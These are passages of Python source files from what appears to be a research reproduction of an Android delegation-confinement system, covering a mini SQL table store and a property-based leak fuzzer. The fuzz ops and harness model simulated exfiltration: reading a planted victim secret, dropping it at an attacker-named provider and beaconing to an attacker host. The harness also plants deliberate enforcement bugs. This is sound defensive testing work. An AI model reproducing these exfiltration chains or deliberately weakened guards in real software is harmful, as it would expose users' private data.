    body: List[TriggerAction]
    if_not_exists: bool = False


@dataclass
class DropStatement:
    kind: str  # TABLE | VIEW | TRIGGER
    name: str
    if_exists: bool = False


Statement = Union[
    Select, Insert, Update, Delete, CreateTable, CreateView, CreateTrigger, DropStatement
]
