"""Table storage for the mini SQL engine.

Rows are stored as dictionaries keyed by rowid. A column declared
``INTEGER PRIMARY KEY`` aliases the rowid (as in SQLite) and autoincrements
from ``max(existing) + 1``. The COW proxy relies on being able to start a
delta table's key space at a large offset ``N`` to avoid collisions with
the primary table (paper section 5.2); :meth:`Table.set_autoincrement_base`
provides that.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.errors import SqlIntegrityError, SqlNameError
from repro.minisql import ast_nodes as ast


class Table:
    """One base table: schema plus rows."""

    def __init__(self, name: str, columns: List[ast.ColumnDef]) -> None:
        self.name = name.lower()
        self.display_name = name
        self.columns = columns
        self.column_names = [c.name.lower() for c in columns]
        pk = [c.name.lower() for c in columns if c.primary_key]
        if len(pk) > 1:
            raise SqlIntegrityError(f"table {name}: multiple primary keys")
        self.pk_column: Optional[str] = pk[0] if pk else None
        self.pk_is_integer = any(
            c.primary_key and c.type_name == "INTEGER" for c in columns
        )
        self.rows: Dict[int, Dict[str, object]] = {}
        self._next_rowid = 1
        self._autoincrement_base = 1
        self._rowid_counter = 0

    # ------------------------------------------------------------------

    def has_column(self, name: str) -> bool:
        return name.lower() in self.column_names

    def column_def(self, name: str) -> ast.ColumnDef:
        for column in self.columns:
            if column.name.lower() == name.lower():
                return column
        raise SqlNameError(f"table {self.display_name} has no column {name}")

    def set_autoincrement_base(self, base: int) -> None:
        """Start INTEGER PRIMARY KEY allocation at ``base`` (COW proxy hook)."""
        self._autoincrement_base = base

    def _allocate_pk(self) -> int:
        current_max = 0
        if self.pk_column is not None:
            for row in self.rows.values():
                value = row.get(self.pk_column)
                if isinstance(value, int) and value > current_max:
                    current_max = value
        return max(current_max + 1, self._autoincrement_base)

    def _next_internal_rowid(self) -> int:
        self._rowid_counter += 1
        return self._rowid_counter

    # ------------------------------------------------------------------

    def insert_row(self, values: Dict[str, object], or_replace: bool = False) -> int:
        """Insert one row; returns the rowid (== INTEGER PRIMARY KEY value
        when the table has one). Enforces PK uniqueness and NOT NULL."""
        row: Dict[str, object] = {}
        for column in self.columns:
            key = column.name.lower()
            if key in values:
                row[key] = values[key]
            elif column.default is not None and isinstance(column.default, ast.Literal):
                row[key] = column.default.value
            else:
                row[key] = None
        unknown = set(values) - set(self.column_names)
        if unknown:
            raise SqlNameError(
                f"table {self.display_name} has no columns {sorted(unknown)}"
            )
        if self.pk_column is not None and row.get(self.pk_column) is None:
            if self.pk_is_integer:
                row[self.pk_column] = self._allocate_pk()
            else:
                raise SqlIntegrityError(f"NOT NULL constraint: {self.pk_column}")
        for column in self.columns:
            if column.not_null and row.get(column.name.lower()) is None and not column.primary_key:
                raise SqlIntegrityError(
                    f"NOT NULL constraint failed: {self.display_name}.{column.name}"
                )
        if self.pk_column is not None:
            pk_value = row[self.pk_column]
            existing = self.find_by_pk(pk_value)
            if existing is not None:
                if not or_replace:
                    raise SqlIntegrityError(
                        f"UNIQUE constraint failed: {self.display_name}.{self.pk_column}"
                    )
                self.rows.pop(existing)
        for column in self.columns:
            if column.unique and not column.primary_key:
                key = column.name.lower()
                value = row.get(key)
                if value is None:
                    continue
                clash = next(
                    (rid for rid, other in self.rows.items() if other.get(key) == value), None
                )
                if clash is not None:
                    if not or_replace:
                        raise SqlIntegrityError(
                            f"UNIQUE constraint failed: {self.display_name}.{column.name}"
                        )
                    self.rows.pop(clash)
        rowid = self._next_internal_rowid()
        self.rows[rowid] = row
        if self.pk_is_integer and isinstance(row.get(self.pk_column), int):
            return int(row[self.pk_column])  # type: ignore[arg-type]
        return rowid

    def find_by_pk(self, value: object) -> Optional[int]:
        """Return the internal rowid whose PK equals ``value``, if any."""
        if self.pk_column is None:
            return None
        for rowid, row in self.rows.items():
            if row.get(self.pk_column) == value and value is not None:
                return rowid
        return None

    def delete_rowids(self, rowids: List[int]) -> int:
        removed = 0
        for rowid in rowids:
            if rowid in self.rows:
                del self.rows[rowid]
                removed += 1
        return removed

    def all_rows(self) -> List[Dict[str, object]]:
        return list(self.rows.values())

    def __len__(self) -> int:
        return len(self.rows)
