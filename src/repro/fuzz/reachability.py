"""PolyScope-style reachability triage for the delegation fuzz space.

Before fuzzing, enumerate every ``(subject, resource, op)`` triple a
delegation topology could attempt and decide *statically* — from the
Maxoid policy the paper specifies, not from running anything — whether
the attempt can even reach its resource. Triples the reference monitor
denies outright (a plain app opening foreign package-private state, a
delegate dialling out, a delegate binding a foreign app's provider) are
pruned with the denying rule as the reason; what remains is the attack
surface worth spending fuzz examples on.

This mirrors PolyScope's insight for Android scoped storage: most of the
raw permission-combinatorics are unreachable under the platform policy,
and triaging them away first turns an intractable product space into a
small audit set. Here the pruned fraction is reported so tests can
assert the triage actually bites.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

__all__ = ["Subject", "Triple", "ReachabilityReport", "triage", "RESOURCE_OPS"]


@dataclass(frozen=True)
class Subject:
    """One acting process class in a topology: an app, possibly a
    delegate (``initiator`` set) of another."""

    package: str
    initiator: Optional[str] = None

    @property
    def is_delegate(self) -> bool:
        return self.initiator is not None

    @property
    def key(self) -> str:
        return f"{self.package}^{self.initiator}" if self.is_delegate else self.package

    def __str__(self) -> str:
        return self.key


@dataclass(frozen=True)
class Triple:
    """One candidate fuzz action: ``subject`` performing ``op`` on
    ``resource``."""

    subject: Subject
    resource: str
    op: str
    #: How the platform transforms a reachable op ("" = verbatim).
    note: str = ""

    def __str__(self) -> str:
        text = f"{self.subject} {self.op} {self.resource}"
        return f"{text} ({self.note})" if self.note else text


#: Ops attempted per resource class during enumeration.
RESOURCE_OPS: Dict[str, Tuple[str, ...]] = {
    "priv": ("read", "write"),
    "ext": ("read", "write"),
    "clip": ("copy", "paste"),
    "provider": ("open", "insert", "query"),
    "net": ("connect",),
}


@dataclass
class ReachabilityReport:
    """The triage outcome: what to fuzz, what was pruned and why."""

    reachable: List[Triple] = field(default_factory=list)
    pruned: List[Tuple[Triple, str]] = field(default_factory=list)

    @property
    def total(self) -> int:
        return len(self.reachable) + len(self.pruned)

    @property
    def pruned_fraction(self) -> float:
        return len(self.pruned) / self.total if self.total else 0.0

    def pool(self, subject: Subject) -> List[Triple]:
        """The reachable triples of one subject — its fuzz op pool."""
        return [t for t in self.reachable if t.subject == subject]

    def is_reachable(self, subject: Subject, resource: str, op: str) -> bool:
        return any(
            t.subject == subject and t.resource == resource and t.op == op
            for t in self.reachable
        )

    def summary(self) -> str:
        return (
            f"{len(self.reachable)}/{self.total} triples reachable "
            f"({self.pruned_fraction:.0%} pruned)"
        )


def _classify(
    subject: Subject,
    resource: str,
    op: str,
    providers: Dict[str, Tuple[Optional[str], bool]],
    maxoid: bool,
) -> Tuple[bool, str]:
    """Decide one triple. Returns ``(reachable, reason_or_note)``."""
    kind, _, target = resource.partition(":")

    if kind == "priv":
        if target == subject.package:
            return True, ""
        if not maxoid:
            # Stock Android still has per-UID sandboxes; foreign priv is
            # unreachable either way. (The leaks the corpus models go
            # *around* this wall, never through it.)
            return False, "UID sandbox: foreign package-private state"
        if subject.is_delegate and target == subject.initiator:
            if op == "read":
                return True, "initiator view"
            return True, "copy-up; redirected to Vol(initiator)"
        return False, "EACCES: package-private to this subject"

    if kind == "ext":
        if subject.is_delegate and op == "write" and maxoid:
            return True, "redirected to Vol(initiator)"
        return True, ""

    if kind == "clip":
        if subject.is_delegate and maxoid:
            return True, f"domain vol:{subject.initiator}"
        return True, "domain <main>"

    if kind == "provider":
        owner, exported = providers.get(target, (None, False))
        if owner is None:
            # Trusted system provider: reachable by everyone; delegates
            # get their COW view.
            return (True, "COW view") if subject.is_delegate and maxoid else (True, "")
        if subject.package == owner:
            return True, "own provider"
        if subject.is_delegate and maxoid:
            # Binder policy: a delegate talks to the system, its
            # initiator, and sibling delegates — an app-defined provider
            # endpoint runs in its owner's plain context.
            if owner == subject.initiator:
                return True, "initiator-owned provider"
            return False, "IPC guard: foreign app endpoint"
        if exported:
            return True, "exported, no grant needed"
        return False, "no per-URI grant"

    if kind == "net":
        if subject.is_delegate and maxoid:
            return False, "ENETUNREACH: delegates are offline"
        return True, ""

    raise ValueError(f"unknown resource class {resource!r}")


def triage(
    subjects: Iterable[Subject],
    packages: Sequence[str],
    providers: Optional[Dict[str, Tuple[Optional[str], bool]]] = None,
    maxoid: bool = True,
) -> ReachabilityReport:
    """Enumerate and classify the full op space of a topology.

    ``providers`` maps authority -> ``(owner_package, exported)``; owner
    ``None`` marks a trusted system provider. The resource universe per
    subject is every package's private state, shared external storage,
    the clipboard, every provider, and the network.
    """
    providers = dict(providers or {})
    report = ReachabilityReport()
    resources: List[str] = [f"priv:{package}" for package in packages]
    resources.append("ext:shared")
    resources.append("clip:clipboard")
    resources.extend(f"provider:{authority}" for authority in sorted(providers))
    resources.append("net:internet")

    for subject in subjects:
        for resource in resources:
            kind = resource.partition(":")[0]
            for op in RESOURCE_OPS[kind]:
                reachable, reason = _classify(
                    subject, resource, op, providers, maxoid
                )
                triple = Triple(subject, resource, op, note=reason if reachable else "")
                if reachable:
                    report.reachable.append(triple)
                else:
                    report.pruned.append((triple, reason))
    return report
