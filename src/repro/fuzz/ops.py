"""The fuzz op language: small, deterministic, renderable actions.

Each op is a frozen dataclass with ``apply(world) -> str`` (a
human-readable outcome, **never** containing pids or inode numbers — the
outcome stream feeds the byte-identical replay fingerprint and those
counters are process-global) and ``render() -> str`` (the line shown in
a shrunk counterexample). Ops raise the simulation's normal exceptions;
the harness maps them to ``err:<Type>`` outcomes and handles
:class:`~repro.faults.SimulatedCrash` with a device recovery.

Every actor carries one byte-register in ``world.regs`` — reads load it,
writes store it — so a shrunk sequence reads like a tiny assembly
program for the leak: ``spawn``, ``load secret``, ``copy``, ``paste``,
``publish``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Optional, TYPE_CHECKING

from repro.android.content.provider import ContentValues
from repro.android.content.user_dictionary import WORDS_URI
from repro.android.uri import Uri
from repro.apps.adversarial import exfil_browser, interpreter, launderer, leaky_provider
from repro.faults import FAULTS, SimulatedCrash, fail_nth, crash_at

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.fuzz.harness import FuzzWorld

__all__ = [
    "Op",
    "Spawn",
    "Invoke",
    "DropLoot",
    "ReadSecret",
    "ReadExternal",
    "WriteExternal",
    "ClipCopy",
    "ClipPaste",
    "RunScript",
    "BrowseFile",
    "IngestDocument",
    "ProviderFetch",
    "ProviderInsert",
    "ProviderQuery",
    "VolatileCommit",
    "ClearVolatile",
    "ArmFault",
    "DisarmFaults",
    "CrashNow",
]


@dataclass(frozen=True)
class Op:
    """Base op. Subclasses set ``actor`` (a subject key) when they act."""

    def apply(self, world: "FuzzWorld") -> str:
        raise NotImplementedError

    def render(self) -> str:
        return repr(self)


def _require(world: "FuzzWorld", actor: str) -> Optional[Any]:
    """The actor's AppApi, or None when the subject was never spawned
    (ops on missing actors are skips, keeping shrinking closed under
    subsequence deletion)."""
    return world.apis.get(actor)


@dataclass(frozen=True)
class Spawn(Op):
    """Start a subject: a plain app, or a delegate of ``initiator``."""

    package: str
    initiator: Optional[str] = None

    @property
    def key(self) -> str:
        return f"{self.package}^{self.initiator}" if self.initiator else self.package

    def apply(self, world: "FuzzWorld") -> str:
        world.spawn(self.package, self.initiator)
        return f"spawned {self.key}"

    def render(self) -> str:
        return f"spawn {self.key}"


@dataclass(frozen=True)
class Invoke(Op):
    """Launch an app through the Activity Manager (AM-routed, unlike
    :class:`Spawn`'s direct fork): runs the full resolve/fork/endpoint/
    guard-registry bookkeeping path, which is where the interleaving
    sweep's preemption windows live."""

    package: str

    def apply(self, world: "FuzzWorld") -> str:
        from repro.android.app_api import AppApi

        invocation = world.device.launch(self.package)
        world.apis[self.package] = AppApi(world.device, invocation.process)
        return f"invoked {self.package}"

    def render(self) -> str:
        return f"am: invoke {self.package}"


@dataclass(frozen=True)
class DropLoot(Op):
    """Insert the actor's register at the clip mule's exported drop
    provider (``content://com.attacker.clipmule.drop/<name>``). Under an
    intact Maxoid guard a delegate actor is always refused the channel;
    getting bytes through is itself evidence of a broken guard."""

    actor: str
    name: str = "drop"

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        payload = world.regs.get(self.actor, b"")
        api.insert(
            Uri.content(launderer.DROP_AUTHORITY, self.name),
            ContentValues({"data": payload}),
        )
        return "dropped"

    def render(self) -> str:
        return f"{self.actor}: drop register at {launderer.DROP_AUTHORITY}/{self.name}"


@dataclass(frozen=True)
class ReadSecret(Op):
    """Load the victim's planted secret into the actor's register."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        world.regs[self.actor] = api.sys.read_file(world.secret_path)
        return f"read {len(world.regs[self.actor])}B"

    def render(self) -> str:
        return f"{self.actor}: read secret"


@dataclass(frozen=True)
class WriteExternal(Op):
    """Publish the actor's register to shared external storage."""

    actor: str
    name: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        path = api.write_external(f"fuzz/{self.name}", world.regs.get(self.actor, b""))
        return f"wrote {path}"

    def render(self) -> str:
        return f"{self.actor}: publish register -> external fuzz/{self.name}"


@dataclass(frozen=True)
class ReadExternal(Op):
    """Load a shared external file into the actor's register."""

    actor: str
    name: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        world.regs[self.actor] = api.read_external(f"fuzz/{self.name}")
        return f"read {len(world.regs[self.actor])}B"

    def render(self) -> str:
        return f"{self.actor}: read external fuzz/{self.name}"


@dataclass(frozen=True)
class ClipCopy(Op):
    """Copy the actor's register to its clipboard domain."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        api.clipboard_set(world.regs.get(self.actor, b"").decode("latin-1"))
        return "copied"

    def render(self) -> str:
        return f"{self.actor}: clipboard copy"


@dataclass(frozen=True)
class ClipPaste(Op):
    """Paste the actor's clipboard domain into its register."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        text = api.clipboard_get()
        world.regs[self.actor] = (text or "").encode("latin-1")
        return f"pasted {len(world.regs[self.actor])}B"

    def render(self) -> str:
        return f"{self.actor}: clipboard paste"


@dataclass(frozen=True)
class RunScript(Op):
    """Hand the interpreter app a command script (actor must be an
    interpreter subject — plain or delegate)."""

    actor: str
    script: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        app = world.apps[interpreter.PACKAGE]
        result = app.run_script(api, self.script)
        return f"executed {result['executed']}"

    def render(self) -> str:
        return f"{self.actor}: run script {self.script!r}"


@dataclass(frozen=True)
class BrowseFile(Op):
    """Have the exfil browser render (and mirror, and beacon) a path."""

    actor: str
    path: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        app = world.apps[exfil_browser.PACKAGE]
        result = app.render_file(api, self.path)
        return f"rendered {result['bytes']}B beaconed={result['beaconed']}"

    def render(self) -> str:
        return f"{self.actor}: browse file {self.path}"


@dataclass(frozen=True)
class IngestDocument(Op):
    """Have the leaky-provider app hoard a path into its served inbox."""

    actor: str
    path: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        app = world.apps[leaky_provider.PACKAGE]
        name = app.ingest(api, self.path)
        return f"ingested {name}"

    def render(self) -> str:
        return f"{self.actor}: ingest {self.path}"


@dataclass(frozen=True)
class ProviderFetch(Op):
    """Open a name on the exported leaky provider into the register."""

    actor: str
    name: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        app = world.apps[leaky_provider.PACKAGE]
        world.regs[self.actor] = api.open_input(app.content_uri(self.name))
        return f"fetched {len(world.regs[self.actor])}B"

    def render(self) -> str:
        return f"{self.actor}: open leaky provider {self.name}"


@dataclass(frozen=True)
class ProviderInsert(Op):
    """Insert the actor's register as a user-dictionary word."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        word = world.regs.get(self.actor, b"").decode("latin-1") or "-"
        api.insert(WORDS_URI, ContentValues({"word": word, "frequency": 1}))
        return "inserted"

    def render(self) -> str:
        return f"{self.actor}: insert register into user_dictionary"


@dataclass(frozen=True)
class ProviderQuery(Op):
    """Query the user dictionary; concatenate words into the register."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None:
            return "skip"
        rows = api.query(WORDS_URI, projection=["word"])
        words = [str(row[0]) for row in rows.rows]
        world.regs[self.actor] = "\n".join(words).encode("latin-1")
        return f"queried {len(words)} rows"

    def render(self) -> str:
        return f"{self.actor}: query user_dictionary"


@dataclass(frozen=True)
class VolatileCommit(Op):
    """An initiator commits every volatile file to its public name."""

    actor: str

    def apply(self, world: "FuzzWorld") -> str:
        api = _require(world, self.actor)
        if api is None or api.is_delegate:
            return "skip"
        committed = 0
        for tmp_path in api.volatile.list_files():
            api.volatile.commit(tmp_path)
            committed += 1
        return f"committed {committed}"

    def render(self) -> str:
        return f"{self.actor}: commit volatile files"


@dataclass(frozen=True)
class ClearVolatile(Op):
    """Discard an initiator's volatile state (Clear-Vol)."""

    package: str

    def apply(self, world: "FuzzWorld") -> str:
        dropped = world.device.clear_volatile(self.package)
        return f"cleared {dropped}"

    def render(self) -> str:
        return f"clear volatile of {self.package}"


@dataclass(frozen=True)
class ArmFault(Op):
    """Arm a seeded fault policy on a registered fault point."""

    point: str
    nth: int = 1
    crash: bool = False

    def apply(self, world: "FuzzWorld") -> str:
        policy = crash_at(self.nth) if self.crash else fail_nth(self.nth)
        FAULTS.arm(self.point, policy)
        return f"armed {self.point}"

    def render(self) -> str:
        kind = "crash_at" if self.crash else "fail_nth"
        return f"arm {kind}({self.nth}) on {self.point}"


@dataclass(frozen=True)
class DisarmFaults(Op):
    """Disarm every fault point."""

    def apply(self, world: "FuzzWorld") -> str:
        FAULTS.disarm()
        return "disarmed"

    def render(self) -> str:
        return "disarm faults"


@dataclass(frozen=True)
class CrashNow(Op):
    """Pull the power mid-sequence; the harness runs device recovery."""

    def apply(self, world: "FuzzWorld") -> str:
        raise SimulatedCrash("fuzz.crash_now", 0)

    def render(self) -> str:
        return "crash device"
