"""Property-based delegation fuzzing with lineage counterexamples.

The adversarial corpus (:mod:`repro.apps.adversarial`) gives the
reproduction apps that *try* to leak; this package drives them. Three
pieces cooperate:

- :mod:`repro.fuzz.reachability` — a PolyScope-style triage pass that
  enumerates every ``(subject, resource, op)`` triple a delegation
  topology makes reachable, pruning the combinatorially hopeless part of
  the op space *before* any fuzzing happens;
- :mod:`repro.fuzz.ops` + :mod:`repro.fuzz.harness` — a small op
  language (spawn, read, publish, clipboard, provider, fault, crash) and
  a world that executes op sequences on a fresh device with the online
  :class:`~repro.obs.monitor.SecurityMonitor` attached, asserting S1-S4
  through the shared ``obs/sweep.py`` rule engine after every step;
- :mod:`repro.fuzz.stateful` + :mod:`repro.fuzz.driver` — a hypothesis
  :class:`RuleBasedStateMachine` over the reachable pool, and a seeded
  scenario driver whose every violation shrinks to a minimal op sequence
  rendered with its ``provenance.explain()`` derivation chain and a
  byte-identical replay fingerprint.

A planted-vulnerability mode (:data:`repro.fuzz.harness.PLANTED_VULNS`)
disables exactly one Maxoid enforcement point so the unmodified rule
engine has a real bug to find — the fuzzer proving it can catch what it
is supposed to catch.
"""

from repro.fuzz.harness import (
    FuzzWorld,
    PLANTED_VULNS,
    RunResult,
    SECRET_PATH,
    VICTIM_PACKAGE,
)
from repro.fuzz.ops import (
    ArmFault,
    BrowseFile,
    ClearVolatile,
    ClipCopy,
    ClipPaste,
    CrashNow,
    DisarmFaults,
    DropLoot,
    IngestDocument,
    Invoke,
    Op,
    ProviderFetch,
    ProviderInsert,
    ProviderQuery,
    ReadExternal,
    ReadSecret,
    RunScript,
    Spawn,
    VolatileCommit,
    WriteExternal,
)
from repro.fuzz.driver import (
    AnchorHalt,
    Counterexample,
    fuzz_sweep,
    record_scenario,
    replay_to_anchor,
    run_scenario,
    scenario_from_seed,
    shrink,
)
from repro.fuzz.interleave import (
    InterleaveResult,
    InterleaveSweepReport,
    RaceCounterexample,
    concurrent_scenario_from_seed,
    interleave_sweep,
    run_interleaved,
)
from repro.fuzz.reachability import (
    ReachabilityReport,
    Subject,
    Triple,
    triage,
)

__all__ = [
    "FuzzWorld",
    "PLANTED_VULNS",
    "RunResult",
    "SECRET_PATH",
    "VICTIM_PACKAGE",
    "Op",
    "Spawn",
    "Invoke",
    "DropLoot",
    "ReadSecret",
    "ReadExternal",
    "WriteExternal",
    "ClipCopy",
    "ClipPaste",
    "RunScript",
    "BrowseFile",
    "IngestDocument",
    "ProviderFetch",
    "ProviderInsert",
    "ProviderQuery",
    "VolatileCommit",
    "ClearVolatile",
    "ArmFault",
    "DisarmFaults",
    "CrashNow",
    "AnchorHalt",
    "Counterexample",
    "scenario_from_seed",
    "record_scenario",
    "replay_to_anchor",
    "run_scenario",
    "shrink",
    "fuzz_sweep",
    "InterleaveResult",
    "InterleaveSweepReport",
    "RaceCounterexample",
    "concurrent_scenario_from_seed",
    "interleave_sweep",
    "run_interleaved",
    "Subject",
    "Triple",
    "ReachabilityReport",
    "triage",
]
