"""The fuzz world: op sequences on a fresh device, monitored live.

One :class:`FuzzWorld` is one hypothesis example (or one seeded
scenario): a fresh Maxoid device with the full corpus installed, a
planted victim secret, the provenance ledger armed, and the online
:class:`~repro.obs.monitor.SecurityMonitor` attached — every op's spans
are evaluated against S1-S4 by the shared ``obs/sweep.py`` rule engine
the moment they close.

``PLANTED_VULNS`` holds the deliberate-bug modes: each entry disables
exactly one Maxoid *enforcement* point, leaving the detector untouched,
so a fuzz run over a planted world proves the fuzzer can find real
violations (and a run over an unplanted world proves the absence of
false positives).

Everything that feeds :meth:`RunResult.fingerprint` is
counter-free — rendered ops, outcome strings, violation messages,
lineage chains, and the fault plane's consult schedule — because pids
and inode numbers come from process-global counters and would break the
byte-identical replay contract.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.android.app_api import AppApi
from repro.apps import install_full_corpus
from repro.apps.adversarial import exfil_browser
from repro.apps.base import SimApp
from repro.apps.email_app import PACKAGE as VICTIM_PACKAGE
from repro.core.device import Device
from repro.errors import ReproError
from repro.faults import FAULTS, SimulatedCrash
from repro.obs import OBS
from repro.obs.monitor import SecurityMonitor
from repro.obs.sweep import Violation

__all__ = [
    "FuzzWorld",
    "PLANTED_VULNS",
    "RunResult",
    "SECRET",
    "SECRET_PATH",
    "VICTIM_PACKAGE",
]

#: The victim's planted secret: what every attack chain tries to move.
SECRET = b"TOPSECRET-correct-horse-battery"
SECRET_PATH = f"/data/data/{VICTIM_PACKAGE}/secrets/secret.txt"


def _disable_clipboard_isolation(device: Device) -> None:
    """The canonical planted vulnerability: per-confinement-domain
    clipboards (paper section 6.2) collapse back to one global
    clipboard, reopening the delegate-copy -> mule-paste channel. The
    rule engine is untouched; the taint-flow S1 check must now fire."""
    device.clipboard._maxoid = False


def _arm_binder_guard_race(device: Device) -> None:
    """A single-enforcement-point *race*: the binder delegate guard gets
    a non-atomic registry rebuild (clear -> preemption window ->
    repopulate) plus a fail-open branch for endpoints missing from the
    registry. Sequentially invisible — only an adversarial interleaving
    under the deterministic scheduler can drive a delegate's transaction
    through the empty window. The rule engine is untouched."""
    if device.ipc_guard is not None:
        device.ipc_guard.racy_guard = True


#: name -> device mutator. One Maxoid enforcement point disabled each.
PLANTED_VULNS: Dict[str, Callable[[Device], None]] = {
    "clipboard-isolation": _disable_clipboard_isolation,
    "binder-guard-race": _arm_binder_guard_race,
}


@dataclass
class RunResult:
    """Everything one op-sequence run produced."""

    outcomes: List[Tuple[str, str]] = field(default_factory=list)
    violations: List[Violation] = field(default_factory=list)
    schedule: bytes = b""

    def violation_renders(self) -> List[str]:
        return [violation.render() for violation in self.violations]

    def fingerprint(self) -> str:
        """A counter-free digest of the run; equal across replays."""
        digest = hashlib.sha256()
        for rendered, outcome in self.outcomes:
            digest.update(rendered.encode())
            digest.update(b"=>")
            digest.update(outcome.encode())
            digest.update(b"\n")
        for line in self.violation_renders():
            digest.update(line.encode())
            digest.update(b"\n")
        digest.update(self.schedule)
        return digest.hexdigest()


class FuzzWorld:
    """A monitored device plus the mutable state the op language needs."""

    def __init__(
        self,
        planted: Optional[str] = None,
        maxoid: bool = True,
        record: bool = False,
        record_capacity: int = 4096,
        halt_at: Optional[int] = None,
    ) -> None:
        if planted is not None and planted not in PLANTED_VULNS:
            raise KeyError(
                f"unknown planted vulnerability {planted!r}; "
                f"known: {', '.join(sorted(PLANTED_VULNS))}"
            )
        self.planted = planted
        self.maxoid = maxoid
        #: Arm the flight recorder for this world's lifetime. ``halt_at``
        #: is the replay-to-anchor hook: recording event ``seq ==
        #: halt_at`` raises AnchorReached through the op that produced it
        #: (callers leave the world open for inspection).
        self.record = record
        self.record_capacity = record_capacity
        self.halt_at = halt_at
        self.device: Device = None  # type: ignore[assignment]
        self.apps: Dict[str, SimApp] = {}
        #: subject key -> live AppApi (the delegation topology so far).
        self.apis: Dict[str, AppApi] = {}
        #: subject key -> its byte register.
        self.regs: Dict[str, bytes] = {}
        self.outcomes: List[Tuple[str, str]] = []
        self.monitor: SecurityMonitor = None  # type: ignore[assignment]
        self._capture = None
        self._started = False

    # -- lifecycle -------------------------------------------------------

    def start(self) -> "FuzzWorld":
        """Stand the world up: device, corpus, secret, capture, monitor."""
        assert not self._started
        FAULTS.reset()
        self.device = Device(maxoid_enabled=self.maxoid)
        self.apps = install_full_corpus(self.device)
        # The attacker's collection host exists; only Maxoid's delegate
        # network policy stands between a rendered secret and egress.
        self.device.network.add_host(exfil_browser.HOME_HOST)
        # Plant the secret before the capture: the ledger then classifies
        # it lazily on first contact as a bare ``source ... [Priv(A)]``
        # lineage root instead of recording the setup write. On the
        # stock baseline there are no delegate contexts at all, so the
        # corpus channels all start from a world-readable victim file —
        # the pre-Marshmallow sharing idiom the IFL catalogue attacks.
        victim = self.device.spawn(VICTIM_PACKAGE)
        victim.write_internal(
            "secrets/secret.txt", SECRET, mode=0o600 if self.maxoid else 0o644
        )
        if self.planted is not None:
            PLANTED_VULNS[self.planted](self.device)
        self._capture = OBS.capture(prov=True)
        self._capture.__enter__()
        self.monitor = SecurityMonitor(
            OBS.tracer,
            set(self.apps),
            ledger=OBS.provenance,
            audit_log=self.device.audit_log,
        ).attach()
        if self.record:
            # The audit log is tapped too, so a violation the monitor
            # records seals a black box the moment it happens.
            OBS.recorder.arm(
                capacity=self.record_capacity,
                audit_log=self.device.audit_log,
                halt_at=self.halt_at,
            )
        self.apis[VICTIM_PACKAGE] = victim
        self._started = True
        return self

    def seal_recording(self, trigger: str = "counterexample", **extra):
        """Seal the armed recorder's ring into a BlackBox (None when not
        recording). Must run before :meth:`close` — sealing captures the
        fault plane's armed policies and schedule, which close resets."""
        if not OBS.recorder.armed:
            return None
        return OBS.recorder.seal(trigger, **extra)

    def close(self) -> None:
        """Tear the world down; global planes are left clean."""
        if not self._started:
            return
        self._started = False
        try:
            self.monitor.detach()
        finally:
            if self.record and OBS.recorder.armed:
                OBS.recorder.disarm()
            self._capture.__exit__(None, None, None)
            self._capture = None
            FAULTS.reset()

    def __enter__(self) -> "FuzzWorld":
        return self.start() if not self._started else self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()

    # -- topology --------------------------------------------------------

    def spawn(self, package: str, initiator: Optional[str] = None) -> str:
        """Start (or reuse) a subject process; returns its key."""
        key = f"{package}^{initiator}" if initiator else package
        if key not in self.apis:
            self.apis[key] = self.device.spawn(package, initiator=initiator)
        return key

    @property
    def secret_path(self) -> str:
        return SECRET_PATH

    # -- execution -------------------------------------------------------

    def step(self, op) -> str:
        """Apply one op; normal simulation errors become outcomes, a
        simulated crash runs device recovery. Returns the outcome."""
        try:
            outcome = op.apply(self)
        except SimulatedCrash:
            # Power-loss semantics: every process dies, recovery replays
            # the journals; reboot clears injected faults. Subjects must
            # be re-spawned by later ops.
            self.device.recover(validate=False, disarm_faults=True)
            self.apis.clear()
            outcome = "crash+recovered"
        except ReproError as error:
            outcome = f"err:{type(error).__name__}"
        self.outcomes.append((op.render(), outcome))
        return outcome

    @property
    def violations(self) -> List[Violation]:
        return self.monitor.violations

    def result(self) -> RunResult:
        return RunResult(
            outcomes=list(self.outcomes),
            violations=list(self.monitor.violations),
            schedule=FAULTS.schedule_bytes(),
        )
