"""The interleaving sweep: concurrent delegate tracks under the reactor.

Where :mod:`repro.fuzz.driver` expands a seed into one *sequential* op
list, this module expands a seed into several concurrent **tracks** (one
actor-style task per simulated process flow: a victim activity track
plus adversarial-corpus attack chains) and runs them under the
deterministic scheduler (:mod:`repro.sched`). The schedule seed fully
determines the interleaving; the shared ``obs.sweep`` S1-S4 rule engine
is the oracle, exactly as in the sequential fuzzer.

Reproducibility contract: a finding is a ``(scenario seed, kept op
slots, schedule)`` triple. Replaying the recorded schedule over the
same tracks is **byte-identical** — same decision list, same schedule
digest, same outcome stream, same violation lineage, same fingerprint.
The shrinker minimizes both dimensions: first the op content of every
track (greedy delta-debugging, fault/crash ops dropped first, whole
